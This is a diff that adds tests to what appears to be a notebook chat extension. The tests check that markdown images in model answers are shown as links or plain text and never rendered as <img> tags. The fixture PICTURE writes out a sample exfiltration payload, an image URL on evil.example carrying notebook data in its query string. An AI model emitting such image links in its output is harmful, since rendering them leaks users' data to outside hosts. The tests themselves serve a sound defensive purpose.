@@ -45,3 +45,19 @@ def test_maths_in_a_single_answer_still_renders(shell: Shell) -> None:
     shell.ok("%%chat -m gpt-5.4-mini\nThe area is $\\pi r^2$ for a $5 pizza")
     seen = typeset(_data(shell.final())["text/markdown"], _markdown_it)
     assert seen.maths == ["\\pi r^2"] and "for a $5 pizza" in seen.text
+
+
+PICTURE = "Look ![chart](https://evil.example/leak.png?d=notebook-data) here"
+
+
+def test_a_picture_in_a_single_answer_is_a_link(shell: Shell) -> None:
+    shell.ok(f"%%chat -m gpt-5.4-mini\n{PICTURE}")
+    rendered = _markdown_it(_data(shell.final())["text/markdown"])
+    assert "<img" not in rendered
+    assert '<a href="https://evil.example/leak.png?d=notebook-data">image: chart</a>' in rendered
+
+
+def test_a_picture_in_a_comparison_column_is_text(shell: Shell) -> None:
+    shell.ok(f"%%chat -m gpt-5.4-mini,claude-opus-4-6\n{PICTURE}")
+    html = _data(shell.final())["text/html"]
+    assert "<img" not in html and html.count("![chart](https://evil.example/leak.png") == 2
